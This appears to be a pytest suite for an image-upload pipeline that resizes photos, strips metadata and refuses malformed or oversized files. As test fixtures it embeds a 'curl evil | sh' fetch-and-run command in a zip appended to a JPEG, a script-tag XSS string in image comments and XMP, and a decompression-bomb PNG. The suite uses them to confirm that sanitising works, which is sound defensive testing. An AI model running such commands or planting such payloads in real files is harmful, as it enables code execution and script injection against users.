import base64
import io
import time
import zipfile

import pytest
from hypothesis import given, settings, strategies as st
from PIL import Image, ImageChops, ImageCms, ImageStat

from app.media import imaging
from app.media.imaging import process, resize
from app.media.photo import Limits, Processed
from app.media.rejection import MediaRejected
from tests.app.media.samples import (
    HEIC,
    encoded,
    exif,
    gif,
    opened,
    photo,
    png,
    png_bomb,
    webp_canvas,
)

LIMITS = Limits()


def refused(data: bytes, declared: str, limits: Limits = LIMITS) -> MediaRejected:
    with pytest.raises(MediaRejected) as caught:
        process(data, declared, limits)
    return caught.value


def difference(one: Image.Image, other: Image.Image) -> float:
    """Mean difference a channel, 0 … 255, at the size of `one`."""
    return max(ImageStat.Stat(ImageChops.difference(one, other.resize(one.size))).mean)


def assert_clean(done: Processed) -> None:
    for variant in done.variants:
        image = opened(variant.data)
        assert image.mode == "RGB"
        assert image.size == (variant.width, variant.height)
        assert not dict(image.getexif())
        assert not {"exif", "icc_profile", "comment", "xmp"} & set(image.info)
        for leak in (b"Acme", b"GPS", b"<script", b"PK\x03\x04", b"xmpmeta", b"Exif"):
            assert leak not in variant.data


def test_a_photo_gets_all_variants() -> None:
    source = photo("astronaut.png", (2000, 1500))
    done = process(encoded(source, "JPEG", quality=95), "image/jpeg", LIMITS)
    assert (done.width, done.height) == (2000, 1500)
    assert [(v.name, v.format, v.height) for v in done.variants] == [
        ("1080", "webp", 810),
        ("1080", "jpeg", 810),
        ("640", "webp", 480),
        ("640", "jpeg", 480),
        ("150", "webp", 112),
        ("150", "jpeg", 112),
    ]
    assert_clean(done)
    assert len(base64.b64decode(done.thumbhash)) > 20
    for variant in done.variants:
        assert opened(variant.data).format == variant.format.upper()
        assert difference(opened(variant.data), source) < 8
        if variant.format == "jpeg":
            assert opened(variant.data).info["progressive"]


def test_never_upscaled() -> None:
    done = process(encoded(photo(size=(200, 300)), "PNG"), "image/png", LIMITS)
    assert [(v.name, v.width, v.height) for v in done.variants[::2]] == [
        ("200", 200, 300),
        ("150", 150, 225),
    ]
    tiny = process(encoded(photo(size=(1, 1)), "PNG"), "image/png", LIMITS)
    assert [(v.width, v.height) for v in tiny.variants] == [(1, 1), (1, 1)]


@pytest.mark.parametrize(
    ("kind", "media_type"),
    [
        ("JPEG", "image/jpeg"),
        ("PNG", "image/png"),
        ("WEBP", "image/webp"),
        ("AVIF", "image/avif"),
        ("GIF", "image/gif"),
    ],
)
def test_every_format_keeps_the_picture(kind: str, media_type: str) -> None:
    source = photo("chelsea.png")
    done = process(encoded(source, kind), media_type, LIMITS)
    assert (done.width, done.height) == source.size
    assert_clean(done)
    assert difference(opened(done.variants[0].data), source) < 8


def test_heic() -> None:
    source = photo("chelsea.png")
    for declared in ("image/heic", "image/heif"):
        done = process(HEIC.read_bytes(), declared, LIMITS)
        assert (done.width, done.height) == source.size
        assert_clean(done)
        assert difference(opened(done.variants[0].data), source) < 8


@pytest.mark.parametrize("kind", ["JPEG", "WEBP", "PNG"])
@pytest.mark.parametrize("orientation", range(1, 9))
def test_orientation_applied_and_place_gone(kind: str, orientation: int) -> None:
    upright = photo("chelsea.png", (1200, 800))
    turn = imaging._UPRIGHT.get(orientation)
    inverse = {
        Image.Transpose.ROTATE_90: Image.Transpose.ROTATE_270,
        Image.Transpose.ROTATE_270: Image.Transpose.ROTATE_90,
    }
    stored = upright if turn is None else upright.transpose(inverse.get(turn, turn))
    data = encoded(stored, kind, exif=exif(orientation))
    assert b"Acme" in data
    done = process(data, f"image/{kind.lower()}", LIMITS)
    assert (done.width, done.height) == (1200, 800)
    assert (done.variants[0].width, done.variants[0].height) == (1080, 720)
    assert_clean(done)
    assert difference(opened(done.variants[0].data), upright) < 6


def test_colour_profile_becomes_srgb() -> None:
    # Lab is the one profile Pillow can make that is far from sRGB: numbers change, colours stay.
    source = photo("chelsea.png")
    lab = ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB"))
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB"))
    converted = ImageCms.profileToProfile(source, srgb, lab, outputMode="LAB")
    assert converted is not None
    back = imaging._to_srgb(converted, lab.tobytes())
    assert back.mode == "RGB"
    assert difference(back, source) < 4
    tagged = encoded(source, "JPEG", quality=95, icc_profile=srgb.tobytes())
    assert_clean(process(tagged, "image/jpeg", LIMITS))


def test_broken_profile_and_broken_exif_cost_nothing() -> None:
    broken = exif().tobytes()[:20] + b"\xff" * 40
    data = encoded(photo("chelsea.png"), "JPEG", icc_profile=b"junk" * 50, exif=broken)
    assert_clean(process(data, "image/jpeg", LIMITS))


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "I;16"])
def test_modes(mode: str) -> None:
    grey = photo("camera.png").convert("L")
    if mode == "I;16":
        image = grey.convert("I").point(lambda value: value * 257).convert(mode)
    else:
        image = grey.convert(mode)
    done = process(encoded(image, "PNG"), "image/png", LIMITS)
    assert_clean(done)
    # The small one, so that dots of black and white have become grey again.
    assert difference(opened(done.variants[-1].data), grey.convert("RGB")) < 8


def test_cmyk_jpeg() -> None:
    source = photo("chelsea.png")
    done = process(encoded(source.convert("CMYK"), "JPEG", quality=95), "image/jpeg", LIMITS)
    assert difference(opened(done.variants[0].data), source) < 8


def test_transparency_becomes_white() -> None:
    image = Image.new("RGBA", (200, 100), (255, 0, 0, 0))
    done = process(encoded(image, "PNG"), "image/png", LIMITS)
    assert opened(done.variants[0].data).getpixel((100, 50)) == (255, 255, 255)


def test_two_pictures_in_one_jpeg() -> None:
    first, second = photo("chelsea.png"), photo("astronaut.png")
    data = encoded(first, "MPO", save_all=True, append_images=[second])
    assert difference(opened(process(data, "image/jpeg", LIMITS).variants[0].data), first) < 8


def test_jpeg_with_an_archive_behind_it() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as writer:
        writer.writestr("evil.sh", "curl evil | sh")
    data = encoded(photo(), "JPEG") + archive.getvalue()
    done = process(data, "image/jpeg", LIMITS)
    assert_clean(done)
    assert not any(zipfile.is_zipfile(io.BytesIO(v.data)) for v in done.variants)


def test_script_in_comment_and_text() -> None:
    script = b"<script>alert(1)</script>"
    assert_clean(process(encoded(photo(), "JPEG", comment=script), "image/jpeg", LIMITS))
    xmp = b"<x:xmpmeta>" + script + b"</x:xmpmeta>"
    assert_clean(process(encoded(photo(), "WEBP", xmp=xmp), "image/webp", LIMITS))
    assert_clean(process(encoded(photo(), "AVIF", xmp=xmp), "image/avif", LIMITS))


@pytest.mark.parametrize(
    ("make", "declared", "code"),
    [
        (png_bomb, "image/png", "too_many_pixels"),
        (lambda: png(50_000, 50_000), "image/png", "too_many_pixels"),
        (lambda: webp_canvas(16_383, 16_383), "image/webp", "too_many_pixels"),
        (lambda: gif(1)[:6] + b"\xff\xff\xff\xff" + gif(1)[10:], "image/gif", "too_many_pixels"),
        (lambda: gif(1001), "image/gif", "too_many_frames"),
        (lambda: b"", "image/jpeg", "truncated"),
        (lambda: b"\xff\xd8\xff", "image/jpeg", "decode_failed"),
        (lambda: b"<svg><script/></svg>", "image/svg+xml", "unsupported_type"),
        (lambda: encoded(photo(), "PNG"), "image/jpeg", "type_mismatch"),
        (lambda: b"\xff" * (LIMITS.bytes_max + 1), "image/jpeg", "too_large"),
    ],
)
def test_refused_on_the_header(make: object, declared: str, code: str) -> None:
    data = make()  # type: ignore[operator]
    began = time.process_time()
    assert refused(data, declared).code == code
    assert time.process_time() - began < 0.5  # nothing was decoded


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP", "AVIF", "GIF"])
@pytest.mark.parametrize("share", [0.3, 0.9])
def test_truncated(kind: str, share: float) -> None:
    data = encoded(photo(), kind)
    error = refused(data[: int(len(data) * share)], f"image/{kind.lower()}")
    assert error.code in ("truncated", "decode_failed")
    if kind in ("JPEG", "PNG", "WEBP", "GIF"):
        assert error.code == "truncated"


def test_truncated_heic() -> None:
    data = HEIC.read_bytes()
    assert refused(data[: len(data) // 2], "image/heic").code in ("truncated", "decode_failed")


def test_animations_give_their_first_frame() -> None:
    first, second = photo("chelsea.png"), photo("astronaut.png").resize((451, 300))
    for kind in ("GIF", "WEBP"):
        data = encoded(first, kind, save_all=True, append_images=[second], duration=100)
        done = process(data, f"image/{kind.lower()}", LIMITS)
        assert difference(opened(done.variants[0].data), first) < 8


def test_very_tall_pictures_fit_what_webp_holds() -> None:
    done = process(encoded(Image.new("L", (100, 20_000), 99), "PNG"), "image/png", LIMITS)
    assert max(v.height for v in done.variants) == 16_383


def test_resize() -> None:
    data = encoded(photo(), "JPEG")
    one = resize(data, "image/jpeg", 320, "webp", LIMITS)
    assert (one.name, one.width, one.height) == ("320", 320, 320)
    assert resize(data, "image/jpeg", 4000, "jpeg", LIMITS).width == 512
    with pytest.raises(MediaRejected):
        resize(data[:2000], "image/jpeg", 320, "webp", LIMITS)


_HEADS = [encoded(photo(size=(24, 24)), kind) for kind in ("JPEG", "PNG", "WEBP", "AVIF", "GIF")]
_TYPES = ["image/jpeg", "image/png", "image/webp", "image/avif", "image/gif"]


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400), st.sampled_from(_TYPES))
def test_random_bytes_are_refused(data: bytes, declared: str) -> None:
    refused(data, declared)


@settings(max_examples=150, deadline=None)
@given(st.integers(0, 4), st.integers(0, 600), st.binary(min_size=1, max_size=40))
def test_damage_is_refused_or_survived(which: int, at: int, damage: bytes) -> None:
    data = _HEADS[which]
    at = 12 + at % max(1, len(data) - 12)
    broken = data[:at] + damage + data[at + len(damage) :]
    try:
        done = process(broken, _TYPES[which], Limits(pixels_max=1_000_000))
    except MediaRejected:
        return
    assert done.variants
